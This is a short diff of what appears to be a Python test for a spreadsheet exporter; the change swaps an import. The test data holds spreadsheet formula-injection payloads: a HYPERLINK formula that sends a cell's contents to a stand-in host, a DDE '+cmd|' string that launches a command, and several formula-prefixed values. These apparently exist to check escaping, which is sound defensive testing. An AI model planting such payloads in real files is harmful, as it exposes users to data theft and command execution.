@@ -7,7 +7,7 @@ import types
 import openpyxl
 import pandas as pd
 
-from planlib.run import export
+from planlib.run import excel as export
 
 EVIL = '=HYPERLINK("http://example.invalid/?x="&A1,"点我")'
 NAMES = {"HQ": "总部", "K1": EVIL, "K2": "+cmd|' /C calc'!A0", "K3": "@SUM(1+1)", "K4": "-2+3", "T1": "\t=1+1"}
